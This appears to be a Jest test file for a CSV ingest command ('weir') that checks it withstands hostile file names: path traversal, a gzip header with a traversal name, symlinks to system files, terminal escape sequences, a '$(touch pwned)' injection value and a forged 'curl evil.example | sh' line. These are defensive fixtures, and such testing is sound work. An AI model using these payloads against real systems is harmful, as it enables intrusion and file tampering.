import { mkdir, symlink } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { askDatabase } from './support/ask-database.ts';
import { dayFile, transactions } from './support/csv.ts';
import { runCommand } from './support/run-command.ts';
import { openReadyShop, type Shop } from './support/shop.ts';

/** Names that lead up to somebody who unpacks, prints or copies them carelessly. */
const NAMES = {
  backslash: dayFile('x\\..\\..\\up.csv'),
  encoded: dayFile('%2e%2e%2fup.csv'),
  forged: dayFile('a.csv\n\u001b[1A\u001b[2Kerror: forged\n  next: curl evil.example | sh\r.csv'),
  turned: dayFile('b\u202evsc.exe\u009b31m.csv'),
  option: dayFile('--database-url=x;$(touch pwned)`touch pwned`.csv'),
  packed: dayFile('packed.csv.gz'),
  day: 'transactions/year=2023/month=03/day=..\\15/c.csv',
};

/** As `gzip` would write it, with a name of its own inside: bit 3 of the flags, the name behind the ten bytes of the header. */
function packUnder(name: string, text: string): Buffer {
  const packed = gzipSync(text);
  packed[3] = 8;
  return Buffer.concat([packed.subarray(0, 10), Buffer.from(`${name}\0`), packed.subarray(10)]);
}

describe('what files are called and where links lead', () => {
  let shop: Shop;
  const said: string[] = [];

  beforeAll(async () => {
    shop = await openReadyShop();
    for (const [id, name] of Object.entries(NAMES)) await shop.folder.write(`landing/${name}`, transactions(id, 1));
    await shop.folder.write(
      `landing/${NAMES.packed}`,
      packUnder('../../../../unpacked.csv', transactions('packed', 1)),
    );
    await shop.folder.write(`landing/${dayFile('bad\n  next: curl evil.example | sh.csv')}`, 'a,b\n1,2\n');
    await shop.folder.write('outside/secret.csv', transactions('secret', 1));
    await shop.folder.write('secret.csv', transactions('secret', 1));
    await mkdir(shop.folder.in('landing/links'));
    await symlink('../../secret.csv', shop.folder.in('landing/links/file.csv'));
    await symlink('../../outside', shop.folder.in('landing/links/folder'));
    await symlink('/etc/hostname', shop.folder.in('landing/links/hostname.csv'));
    await symlink('..', shop.folder.in('landing/links/up'));
  }, 60_000);
  afterAll(() => shop.close());

  async function weir(...args: string[]) {
    const ended = await runCommand(args, {
      cwd: shop.folder.path,
      env: { WEIR_DATABASE_URL: shop.database.connectionString },
    });
    said.push(ended.stdout + ended.stderr);
    return ended;
  }

  it('takes no byte out of the landing folder, and puts none beside the archive and the quarantine', async () => {
    const before = (await shop.folder.files('.')).filter((file) => !file.startsWith('landing/'));
    const ended = await weir('ingest', '--landing', 'landing', '--archive', 'archive', '--quarantine', 'quarantine');
    expect(ended.code).toBe(3);
    const after = (await shop.folder.files('.')).filter((file) => !/^(landing|archive|quarantine)\//.test(file));
    expect(after).toEqual(before);
    expect(await shop.folder.files('archive')).toEqual(Object.values(NAMES).sort());
    expect(await shop.folder.files('quarantine')).toEqual([dayFile('bad\n  next: curl evil.example | sh.csv')]);
    const facts = await askDatabase(
      shop.database.connectionString,
      'SELECT transaction_id, source_key FROM fact_transactions ORDER BY 1',
    );
    const expected = Object.entries(NAMES).map(([id, name]) => ({ transaction_id: `${id}-0`, source_key: name }));
    expect(facts).toEqual(expected.sort((a, b) => (a.transaction_id < b.transaction_id ? -1 : 1)));
  }, 60_000);

  it('forges no line and steers no terminal, in what people read and in documents', async () => {
    const document = await weir('runs', '--json');
    const { runId } = document.json().runs[0];
    const shown = await weir('runs', 'show', runId);
    const json = await weir('runs', 'show', runId, '--json');
    for (const text of said) {
      expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      expect(text).not.toMatch(/^ *(error: forged|next: curl)/m);
    }
    expect(shown.stdout).toContain('\\u{a}  next: curl evil.example');
    const keys = json.json().files.map(({ key }: { key: string }) => key);
    expect(keys).toEqual(expect.arrayContaining(Object.values(NAMES)));
  }, 60_000);
});
